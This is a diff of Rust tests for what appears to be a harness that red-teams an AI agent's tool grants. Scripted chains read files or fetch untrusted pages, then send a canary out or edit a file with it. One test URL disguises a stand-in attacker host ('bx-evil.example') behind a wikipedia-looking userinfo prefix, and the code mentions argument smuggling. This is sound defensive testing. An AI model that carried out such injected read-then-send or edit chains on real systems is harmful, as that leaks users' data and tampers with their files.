@@ -108,24 +108,29 @@ fn the_plan_pairs_every_read_with_every_host() {
             read,
             "http://bxhostile.wikipedia.org:4321@bx-evil.example:4321/bx?c=BXCANARY-n0-12".into(),
         ),
-        // A restart between the read and the send, from the first read.
+        // A restart of loopd between the read and the send, from the first read.
         ("read_file", read, api(13)),
         ("read_file", read, wiki(14)),
+        // Then brokerd's, after the untrusted writes (none here).
+        ("read_file", read, api(15)),
+        ("read_file", read, wiki(16)),
     ];
     let expected: Vec<(&str, &str, &str)> = expected
         .iter()
         .map(|(t, p, u)| (*t, *p, u.as_str()))
         .collect();
-    assert_eq!(got, expected);
+    // Argument smuggling follows (`smuggling_chains_send_the_arguments_as_they_are`).
+    assert_eq!(got[..16], expected);
     assert!(plan.iter().all(|c| c.sink.grant == "web"));
     assert_eq!(plan[6].sink.lookalike, Some("suffix"));
-    assert_eq!(
+    let restarted = |d: &str| {
         plan.iter()
-            .filter(|c| c.restart)
+            .filter(|c| c.restart == Some(d))
             .map(|c| c.n)
-            .collect::<Vec<_>>(),
-        [13, 14]
-    );
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(restarted("loopd"), [13, 14]);
+    assert_eq!(restarted("brokerd"), [15, 16]);
     // The restart chain's read ends its turn; its next turn, by its own tag, sends.
     let v: toml::Value =
         toml::from_str(&super::script::script(&plan).expect("script")).expect("toml");
@@ -136,22 +141,24 @@ fn the_plan_pairs_every_read_with_every_host() {
             .find(|r| r["name"].as_str() == Some(name))
             .expect(name)
     };
-    let hold = named("chain 13 sink");
-    assert_eq!(
-        hold["match"]["tool_result_contains"].as_str(),
-        Some("BXCANARY-n0-13")
-    );
-    assert_eq!(hold["answer"]["text"].as_str(), Some("held"));
-    assert!(hold["answer"].get("tool_calls").is_none());
-    let after = named("chain 13 after restart");
-    assert_eq!(
-        after["match"]["user_contains"].as_str(),
-        Some("[bxhostile chain 13 after restart]")
-    );
-    assert_eq!(
-        after["answer"]["tool_calls"][0]["name"].as_str(),
-        Some("http_fetch")
-    );
+    for n in [13, 15] {
+        let hold = named(&format!("chain {n} sink"));
+        assert_eq!(
+            hold["match"]["tool_result_contains"].as_str(),
+            Some(format!("BXCANARY-n0-{n}").as_str())
+        );
+        assert_eq!(hold["answer"]["text"].as_str(), Some("held"));
+        assert!(hold["answer"].get("tool_calls").is_none());
+        let after = named(&format!("chain {n} after restart"));
+        assert_eq!(
+            after["match"]["user_contains"].as_str(),
+            Some(format!("[bxhostile chain {n} after restart]").as_str())
+        );
+        assert_eq!(
+            after["answer"]["tool_calls"][0]["name"].as_str(),
+            Some("http_fetch")
+        );
+    }
     assert!(!plan[12].after_message().contains(&plan[12].tag()));
 }
 
@@ -163,7 +170,7 @@ fn the_script_reads_then_sends_the_canary() {
     let text = super::script::script(&plan).expect("script");
     let v: toml::Value = toml::from_str(&text).expect("toml");
     let rules = v["rule"].as_array().expect("rules");
-    let restarts = plan.iter().filter(|c| c.restart).count();
+    let restarts = plan.iter().filter(|c| c.restart.is_some()).count();
     assert_eq!(rules.len(), 2 * plan.len() + restarts);
     let sink = &rules[0];
     assert_eq!(sink["max_uses"].as_integer(), Some(1));
@@ -274,8 +281,8 @@ fn consult_is_a_sink_when_configured() {
     assert!(without.iter().all(|c| c.sink.tool == "http_fetch"));
     let with = chains::plan(&r, 4321, "n0", true);
     let consults: Vec<&Chain> = with.iter().filter(|c| c.sink.tool == "consult").collect();
-    // Three reads, and the restart from the first read.
-    assert_eq!(consults.len(), 4);
+    // Three reads, and the restarts of loopd and brokerd from the first read.
+    assert_eq!(consults.len(), 5);
     assert!(
         consults
             .iter()
@@ -402,5 +409,78 @@ fn canaries_go_under_the_tree_only() {
         "{err}"
     );
     assert!(!other.exists());
+    let _ = std::fs::remove_dir_all(&base);
+}
+
+/// Untrusted content driving an edit: each fetch, then an `edit_file` of each path of each
+/// edit grant, replacing the line planted for it (in a file of its own in a granted
+/// directory, or added to a granted file) with what the sink answered.
+#[test]
+fn untrusted_content_drives_an_edit() {
+    let mut r = rewritten();
+    r.grants.insert(
+        "www-edit".into(),
+        grant(
+            "tool = \"edit_file\"\nmode = \"auto\"\nmax_taint = \"secret\"\n[constraints]\n\
+             paths = [\"/s/tree/home/owner/notes\", \"/s/tree/home/owner/todo.md\"]\n",
+        ),
+    );
+    let plan = chains::plan(&r, 4321, "n0", false);
+    let edits: Vec<&Chain> = plan.iter().filter(|c| c.sink.tool == "edit_file").collect();
+    // Two hosts of web, two paths.
+    assert_eq!(edits.len(), 4);
+    let c = edits[0];
+    assert_eq!(c.source.tool, "http_fetch");
+    assert_eq!(c.canary, format!("BXWRITE-BXCANARY-n0-{}", c.n));
+    assert_eq!(
+        c.url,
+        format!("/s/tree/home/owner/notes/bxhostile-{}.txt", c.n)
+    );
+    assert_eq!(edits[1].url, "/s/tree/home/owner/todo.md");
+    let v: toml::Value =
+        toml::from_str(&super::script::script(&plan).expect("script")).expect("toml");
+    let rule = v["rule"]
+        .as_array()
+        .expect("rules")
+        .iter()
+        .find(|r| r["name"].as_str() == Some(&format!("chain {} sink", c.n)))
+        .expect("rule");
+    let args = rule["answer"]["tool_calls"][0]["arguments"]
+        .as_str()
+        .expect("args");
+    assert_eq!(
+        proto::tools::ToolArgs::parse("edit_file", args),
+        Ok(proto::tools::ToolArgs::EditFile(
+            proto::tools::EditFileArgs {
+                new: c.canary.clone(),
+                old: format!("BXEDIT-{}", c.n),
+                path: c.url.clone(),
+            }
+        ))
+    );
+    // Planted: each edit's line where it edits, under the tree.
+    let base = std::env::temp_dir().join(format!("wt-hostile2-edit-{}", std::process::id()));
+    let moved = |p: &str| p.replace("/s/tree", &base.join("tree").display().to_string());
+    for (shadow, _) in r.paths.values_mut() {
+        *shadow = PathBuf::from(moved(&shadow.display().to_string()));
+    }
+    let mut plan = plan;
+    for c in &mut plan {
+        if c.sink.tool == "edit_file" {
+            c.url = moved(&c.url);
+        } else if matches!(c.source.tool, "read_file" | "list_dir") {
+            c.source.path = moved(&c.source.path);
+        }
+    }
+    chains::plant(&r, &plan, &base.join("tree")).expect("plant");
+    let edits: Vec<&Chain> = plan.iter().filter(|c| c.sink.tool == "edit_file").collect();
+    let own = std::fs::read_to_string(&edits[0].url).expect("own file");
+    assert_eq!(own, format!("BXEDIT-{}\n", edits[0].n));
+    let todo = std::fs::read_to_string(&edits[1].url).expect("todo");
+    assert!(
+        todo.contains(&format!("\nBXEDIT-{}\n", edits[1].n)),
+        "{todo}"
+    );
+    assert_eq!(todo.matches(&format!("BXEDIT-{}\n", edits[1].n)).count(), 1);
     let _ = std::fs::remove_dir_all(&base);
 }
